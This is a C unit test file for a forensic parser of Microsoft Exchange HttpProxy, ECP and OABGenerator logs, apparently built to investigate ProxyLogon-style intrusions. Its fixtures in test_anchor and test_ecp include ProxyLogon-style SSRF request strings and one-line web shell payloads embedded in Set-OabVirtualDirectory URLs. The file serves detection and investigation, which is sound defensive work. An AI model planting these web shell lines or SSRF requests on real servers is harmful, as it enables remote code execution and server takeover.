#include "trace_lib.h"

#include "investigate/traces/trace_gap.h"

static when_t at(const char *iso)
{
    when_t t;
    assert_true(clock_parse_iso(str_of(iso), 0, &t));
    return t;
}

/* The AnchorMailbox forms that tell exploitation, probing and scanning apart come through whole. */
static void test_anchor(void **state)
{
    (void)state;
    static const char *const anchor[] = {
        "ServerInfo~a]@exch01.contoso.com:444/autodiscover/autodiscover.xml?#",
        "ServerInfo~a]@exch01.contoso.com:444/ecp/proxyLogon.ecp?#",
        "ServerInfo~a]@exch01:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#",
        "ServerInfo~localhost/ecp/default.flt?~3",
        "Server~exch01/ecp/default.flt?~3",
        "Sid~S-1-5-21-1-2-3-4"};
    struct buf b = BUF_INIT(64 * KIB);
    buf_adds(&b, "DateTime,RequestId,AuthenticatedUser,AnchorMailbox,HttpStatus\n");
    for (size_t i = 0; i < ARRAY_LEN(anchor); i++)
        buf_printf(&b, "2021-03-03T01:00:0%zu.500Z,id,,%s,200\n", i, anchor[i]);
    struct log l;
    assert_string_equal(log_read(&l, NULL, buf_str(&b), "whatever.txt", 0)->name, "httpproxy");
    assert_int_equal(l.row.n, ARRAY_LEN(anchor));
    for (size_t i = 0; i < ARRAY_LEN(anchor); i++) {
        assert_string_equal(field(&l, i, "AnchorMailbox"), anchor[i]);
        assert_string_equal(field(&l, i, "AuthenticatedUser"), "");
    }
    assert_int_equal(l.row.p[0].time, at("2021-03-03T01:00:00.5Z"));
    assert_int_equal(l.row.p[0].zone, TRACE_ZONE_STATED);
    assert_string_equal(l.row.p[0].time_text.p, "2021-03-03T01:00:00.500Z");
    assert_int_equal(l.cover.damaged, 0);
    log_free(&l);
    buf_release(&b);
}

/* Two sessions with other columns in another order, a header without "#", quotes, and lines that are broken.
 */
static void test_sessions(void **state)
{
    (void)state;
    const char *text = "#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy Logs\r\n"
                       "#Fields: DateTime,RequestId,AnchorMailbox,BackEndStatus\r\n"
                       "2021-03-03T01:00:00.000Z,r1,m1,200\r\n"
                       "#Software: Microsoft Exchange Server\r\n#Fields: "
                       "DateTime,BackendStatus,AnchorMailbox,UrlStem,RequestId\r\n"
                       "2021-03-03T02:00:00.000Z,302,\"m2,with \"\"quotes\"\"\",/ecp/y.js,r2\r\n"
                       "2021-03-03T02:00:01.000Z,302,m3\r\n"
                       "garbage\r\n"
                       "2021-03-03T02:00:02.000Z,302,m4,/x,r4,more\r\n"
                       "2021-03-03T02:00:03.000Z,302,a \"stray quote,/x,r5\r\n"
                       "\"DateTime\",\"UrlStem\",\"AnchorMailbox\"\r\n"
                       "\"2021-03-03T03:00:00.000Z\",\"/owa/\",\"m6\"";
    struct log l;
    log_read(&l, NULL, str_of(text), "x.log", 0);
    assert_int_equal(l.row.n, 6);
    assert_string_equal(field(&l, 0, "AnchorMailbox"), "m1");
    assert_string_equal(field(&l, 1, "AnchorMailbox"), "m2,with \"quotes\"");
    assert_string_equal(field(&l, 1, "BackendStatus"), "302");
    assert_string_equal(field(&l, 1, "RequestId"), "r2");
    assert_non_null(l.row.p[2].damage); /* fewer columns: what is there is read */
    assert_string_equal(field(&l, 2, "AnchorMailbox"), "m3");
    assert_non_null(l.row.p[3].damage);
    assert_string_equal(field(&l, 4, "AnchorMailbox"), "a \"stray quote");
    assert_string_equal(field(&l, 4, "RequestId"), "r5");
    assert_string_equal(field(&l, 5, "AnchorMailbox"), "m6");
    assert_string_equal(field(&l, 5, "UrlStem"), "/owa/");
    assert_int_equal(l.row.p[5].time, at("2021-03-03T03:00:00Z"));
    assert_int_equal(l.damage.n, 1);
    assert_int_equal(l.damage.p[0].number, 9);
    assert_int_equal(l.cover.damaged, 3);
    assert_int_equal(l.cover.rows, 7);
    log_free(&l);
}

static void test_no_header(void **state)
{
    (void)state;
    for (size_t columns = 54; columns <= 74; columns += 20) {
        struct buf b = BUF_INIT(64 * KIB);
        for (int row = 0; row < 2; row++) {
            buf_adds(&b, "2021-03-03T01:00:00.000Z");
            for (size_t i = 2; i <= columns; i++)
                buf_printf(&b, ",v%zu", i);
            buf_adds(&b, "\n");
        }
        struct log l;
        assert_string_equal(log_read(&l, NULL, buf_str(&b), "x.log", 0)->name, "httpproxy");
        assert_int_equal(l.row.n, 2);
        assert_string_equal(field(&l, 0, "AnchorMailbox"), columns == 74 ? "v16" : "v15");
        assert_string_equal(field(&l, 0, "BackEndCookie"), columns == 74 ? "v29" : "v28");
        assert_string_equal(field(&l, 0, "HttpStatus"), columns == 74 ? "v20" : "v19");
        assert_int_equal(l.damage.n, 1); /* that there is no header is said once */
        assert_int_equal(l.damage.p[0].bytes, 0);
        assert_int_equal(l.cover.damaged, 0);
        log_free(&l);
        buf_release(&b);
    }
}

#define ECP "#Log-type: ECP Server Log\n#Fields: TimeStamp,ServerName,EventId,EventData\n"

/* The eight constructed lines of the 4a truth table: whatever the form, cmdlet and URL are there to be
 * judged. */
static void test_ecp(void **state)
{
    (void)state;
    static const struct {
        const char *cmd, *cmdlet, *name, *url;
    } line[] = {
        {"Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" "
         "runat=\"\"server\"\">function "
         "Page_Load(){eval(Request[\"\"x\"\"],\"\"unsafe\"\");}</script>''.Identity=''e8c0''",
         "Set-OabVirtualDirectory", "ExternalUrl",
         "http://f/<script language=\"JScript\" runat=\"server\">function "
         "Page_Load(){eval(Request[\"x\"],\"unsafe\");}</script>"},
        {"Set-OabVirtualDirectory.ExternalUrl=''http://f/"
         "<%System.IO.File.WriteAllText(Request[\"\"p\"\"],Request[\"\"f\"\"]);%>''.Identity=''e8c0''",
         "Set-OabVirtualDirectory", "ExternalUrl",
         "http://f/<%System.IO.File.WriteAllText(Request[\"p\"],Request[\"f\"]);%>"},
        {"Set-OabVirtualDirectory.ExternalUrl=''http://f/<script runat=server>x''", "Set-OabVirtualDirectory",
         "ExternalUrl", "http://f/<script runat=server>x"},
        {"Set-EcpVirtualDirectory.ExternalUrl='http://f/<script>a</script>'.Identity='x'",
         "Set-EcpVirtualDirectory", "ExternalUrl", "http://f/<script>a</script>"},
        {"SET-OABVIRTUALDIRECTORY.ExternalUrl='http://f/<script>a</script>'", "SET-OABVIRTUALDIRECTORY",
         "ExternalUrl", "http://f/<script>a</script>"},
        {"Set-WebServicesVirtualDirectory.InternalUrl='http://f/<script>a</script>'.Identity='x'",
         "Set-WebServicesVirtualDirectory", "InternalUrl", "http://f/<script>a</script>"},
        {"Set-OabVirtualDirectory.InternalUrl=''http://f/<script>a.B=c</script>''", "Set-OabVirtualDirectory",
         "InternalUrl", "http://f/<script>a.B=c</script>"},
        {"Set-OabVirtualDirectory.ExternalUrl=https://mail.contoso.com/OAB.Identity='EXCH01\\OAB'",
         "Set-OabVirtualDirectory", "ExternalUrl", "https://mail.contoso.com/OAB"}};
    struct buf b = BUF_INIT(64 * KIB);
    buf_adds(&b, ECP);
    for (size_t i = 0; i < ARRAY_LEN(line); i++)
        buf_printf(&b,
                   "2021-03-03T05:00:0%zu.000Z,EXCH01,ECP.Request,\"S:TIME=13;S:SID=1-2;S:CMD=%s;S:REQID=;S:"
                   "URL=/ecp/DDI/DDIService.svc/"
                   "SetObject?schema=OABVirtualDirectory&msExchEcpCanary=c;S:EX=;S:BLD=15.1.2176.2\"\n",
                   i, line[i].cmd);
    struct log l;
    assert_string_equal(log_read(&l, NULL, buf_str(&b), "x.log", 0)->name, "ecp");
    assert_int_equal(l.row.n, ARRAY_LEN(line));
    for (size_t i = 0; i < ARRAY_LEN(line); i++) {
        assert_string_equal(field(&l, i, "Cmdlet"), line[i].cmdlet);
        assert_string_equal(field(&l, i, line[i].name), line[i].url);
        assert_string_equal(field(&l, i, "URL"),
                            "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=c");
        assert_string_equal(field(&l, i, "REQID"), "");
        assert_string_equal(field(&l, i, "BLD"), "15.1.2176.2");
    }
    assert_string_equal(field(&l, 0, "Identity"), "e8c0");
    log_free(&l);
    buf_release(&b);
    /* not quoted, as rows without a comma are, and without a header */
    log_read(&l, "ecp",
             str_of("2021-03-03T05:00:00.000Z,EXCH01,ECP.Request,S:TIME=1;S:CMD=Get-InboxRule;S:URL=/"
                    "a?b=1;c=2;S:RS=0"),
             "ECPServer.log", 0);
    assert_string_equal(field(&l, 0, "URL"), "/a?b=1;c=2");
    assert_string_equal(field(&l, 0, "RS"), "0");
    assert_string_equal(field(&l, 0, "Cmdlet"), "Get-InboxRule");
    assert_int_equal(l.damage.n, 1);
    log_free(&l);
}

static void test_oab(void **state)
{
    (void)state;
    const char *text = "#Software: Microsoft Exchange Server\n#Log-type: OABGenerator Log\n#Fields: "
                       "DateTime,Thread,Message\n"
                       "2021-03-03T05:00:00.000Z,7,\"Download failed and temporary file "
                       "'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' needs to be removed, now\"\n"
                       "2021-03-03T05:00:01.000Z,7,Download failed and temporary file "
                       "'D:\\Exchange\\ClientAccess\\OAB\\Temp\\1' needs to be removed\n";
    struct log l;
    assert_string_equal(log_read(&l, NULL, str_of(text), "x.log", 0)->name, "oabgen");
    assert_string_equal(field(&l, 0, "TemporaryFile"), "C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx");
    assert_string_equal(field(&l, 1, "TemporaryFile"), "D:\\Exchange\\ClientAccess\\OAB\\Temp\\1");
    assert_int_equal(l.cover.timed, 2);
    log_free(&l);
    log_read(&l, NULL, str_of("some text\nDownload failed and temporary file 'C:\\x' needs to be removed\n"),
             "OABGen.log", 0);
    assert_string_equal(field(&l, 1, "TemporaryFile"), "C:\\x");
    log_free(&l);
}

static void test_gaps(void **state)
{
    (void)state;
    struct trace_gap g = {0};
    static const char *const names[] = {"HttpProxy_2021030304-1.LOG", "HttpProxy_2021030301-1.LOG",
                                        "HttpProxy_2021030301-2.LOG", "HttpProxy_2021030302-1.LOG",
                                        "HttpProxy_2021030305-1.LOG"};
    for (size_t i = 0; i < ARRAY_LEN(names); i++)
        trace_gap_add(&g, str_of(names[i]), WHEN_NONE, WHEN_NONE);
    size_t i = 0;
    when_t from, to, step;
    assert_true(trace_gap_next(&g, WHEN_DAY, &i, &from, &to));
    assert_int_equal(from, at("2021-03-03T03:00:00Z"));
    assert_int_equal(to, at("2021-03-03T04:00:00Z"));
    assert_false(trace_gap_next(&g, WHEN_DAY, &i, &from, &to));
    trace_gap_release(&g);
    assert_true(trace_gap_name(STR_LIT("u_ex210303.log"), &from, &step));
    assert_int_equal(from, at("2021-03-03"));
    assert_int_equal(step, WHEN_DAY);
    assert_true(trace_gap_name(STR_LIT("u_ex21030313_x.log"), &from, &step));
    assert_int_equal(from, at("2021-03-03T13:00:00Z"));
    assert_true(trace_gap_name(STR_LIT("ECPServer20210303-1.LOG"), &from, &step));
    assert_int_equal(from, at("2021-03-03"));
    assert_false(trace_gap_name(STR_LIT("error.log"), &from, &step));
    assert_false(trace_gap_name(STR_LIT("app-99999999.log"), &from, &step));
    struct trace_gap h = {0};
    trace_gap_add(&h, STR_LIT("a.log"), at("2021-03-01"), at("2021-03-02"));
    trace_gap_add(&h, STR_LIT("b.log"), at("2021-03-05"), at("2021-03-06"));
    i = 0;
    assert_true(trace_gap_next(&h, WHEN_DAY, &i, &from, &to));
    assert_int_equal(to - from, 3 * WHEN_DAY);
    trace_gap_release(&h);
    /* within one file: the longest silence */
    struct log l;
    log_read(&l, NULL,
             str_of("DateTime,AnchorMailbox,HttpStatus\n2021-03-03T01:00:00Z,a,200\n2021-03-03T01:10:00Z,a,"
                    "200\n2021-03-03T09:10:00Z,a,200\n2021-03-03T09:11:00Z,a,200\n"),
             "x", 0);
    assert_int_equal(l.cover.silent_from, at("2021-03-03T01:10:00Z"));
    assert_int_equal(l.cover.silent_to, at("2021-03-03T09:10:00Z"));
    log_free(&l);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_anchor),    cmocka_unit_test(test_sessions),
                                       cmocka_unit_test(test_no_header), cmocka_unit_test(test_ecp),
                                       cmocka_unit_test(test_oab),       cmocka_unit_test(test_gaps)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
